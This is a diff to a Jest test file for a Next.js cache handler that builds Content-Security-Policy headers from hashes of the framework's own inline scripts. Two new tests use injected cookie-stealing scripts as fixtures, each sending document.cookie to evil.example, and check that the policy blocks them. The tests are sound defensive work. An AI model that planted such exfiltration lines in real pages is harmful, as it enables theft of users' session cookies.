@@ -26,32 +26,63 @@ function parse(policy: unknown): Record<string, string[]> {
   );
 }
 
+/** An inline script of the shape Next writes: a flight-data push. */
+const flight = (text: string) => `self.__next_f.push([1,${JSON.stringify(text)}])`;
+const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';
+
 const scriptHashes = (policy: unknown) => (parse(policy)['script-src'] ?? []).filter((source) => source.startsWith("'sha256-"));
 
 describe('withPagePolicy', () => {
   it('gives a page the policy with the hashes of its own inline scripts, keeping its other headers', () => {
-    const value: CacheValue = { kind: 'APP_PAGE', html: page('a()', 'b()'), headers: { 'x-next-cache-tags': 'treatments' } };
+    const value: CacheValue = { kind: 'APP_PAGE', html: page(BOOTSTRAP, flight('b')), headers: { 'x-next-cache-tags': 'treatments' } };
     withPagePolicy(value, BASE);
     expect(value.headers?.['x-next-cache-tags']).toBe('treatments');
     const policy = parse(value.headers?.['content-security-policy']);
-    expect(policy['script-src']).toEqual(["'self'", GTM, hashSource('a()'), hashSource('b()'), 'https://www.googletagmanager.com']);
+    expect(policy['script-src']).toEqual([
+      "'self'",
+      GTM,
+      hashSource(BOOTSTRAP),
+      hashSource(flight('b')),
+      'https://www.googletagmanager.com',
+    ]);
     expect(policy['object-src']).toEqual(["'none'"]);
     expect(policy['frame-ancestors']).toEqual(["'none'"]);
   });
 
   it('replaces a stored policy, whatever its case, by the one of the HTML it carries', () => {
-    const value: CacheValue = { kind: 'APP_PAGE', html: page('new()'), headers: { 'Content-Security-Policy': "script-src 'sha256-old='" } };
+    const value: CacheValue = {
+      kind: 'APP_PAGE',
+      html: page(flight('new')),
+      headers: { 'Content-Security-Policy': "script-src 'sha256-old='" },
+    };
     withPagePolicy(value, BASE);
     expect(Object.keys(value.headers ?? {})).toEqual(['content-security-policy']);
-    expect(scriptHashes(value.headers?.['content-security-policy'])).toEqual([GTM, hashSource('new()')]);
+    expect(scriptHashes(value.headers?.['content-security-policy'])).toEqual([GTM, hashSource(flight('new'))]);
   });
 
   it('follows the HTML when the same value object changes', () => {
-    const value: CacheValue = { kind: 'APP_PAGE', html: page('one()'), headers: {} };
+    const value: CacheValue = { kind: 'APP_PAGE', html: page(flight('one')), headers: {} };
     withPagePolicy(value, BASE);
-    value.html = page('two()');
+    value.html = page(flight('two'));
     withPagePolicy(value, BASE);
-    expect(scriptHashes(value.headers?.['content-security-policy'])).toEqual([GTM, hashSource('two()')]);
+    expect(scriptHashes(value.headers?.['content-security-policy'])).toEqual([GTM, hashSource(flight('two'))]);
+  });
+
+  it('leaves an inline script the framework did not write without a hash (blocked), and logs it once', () => {
+    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
+    for (const html of [page(flight('a'), injected), page(flight('b'), injected)]) {
+      const value: CacheValue = { kind: 'APP_PAGE', html, headers: {} };
+      withPagePolicy(value, BASE);
+      const policy = parse(value.headers?.['content-security-policy']);
+      expect(policy['script-src']).not.toContain(hashSource(injected));
+      expect(policy['script-src']).not.toContain("'unsafe-inline'");
+    }
+    expect(error).toHaveBeenCalledTimes(1);
+    expect(error).toHaveBeenCalledWith(
+      `csp-cache-handler: an inline script that is not the framework's is left blocked: ${hashSource(injected)} ${JSON.stringify(injected)}`,
+    );
+    error.mockRestore();
   });
 
   it('leaves everything but a page with HTML alone', () => {
@@ -150,5 +181,22 @@ describe('CspCacheHandler', () => {
     const read = await handler().get('/tr/treatment/beyazlatma', ctx);
     expect(read?.value?.html).toBe(after.html);
     expect(scriptHashes(read?.value?.headers?.['content-security-policy'])).toEqual([GTM, newHash]);
+  });
+
+  it('serves a cached page whose HTML gained an inline script with a policy that blocks that script', async () => {
+    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+    const injected = 'new Image().src="https://evil.example/?"+document.cookie';
+    const html = page(BOOTSTRAP, flight('about'), injected);
+    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.html'), html);
+    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.rsc'), '0:{}');
+    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.meta'), JSON.stringify({ status: 200, headers: {} }));
+    const entry = await handler().get('/tr/about', ctx);
+    const scripts = parse(entry?.value?.headers?.['content-security-policy'])['script-src'] ?? [];
+    expect(scripts.filter((source) => source.startsWith("'sha256-"))).toEqual([GTM, hashSource(BOOTSTRAP), hashSource(flight('about'))]);
+    // No hash, no 'unsafe-inline' and no nonce for it: the browser refuses to run it.
+    expect(scripts).not.toContain(hashSource(injected));
+    expect(scripts.filter((source) => source === "'unsafe-inline'" || source.startsWith("'nonce-"))).toEqual([]);
+    expect(error).toHaveBeenCalledWith(expect.stringContaining(`left blocked: ${hashSource(injected)}`));
+    error.mockRestore();
   });
 });
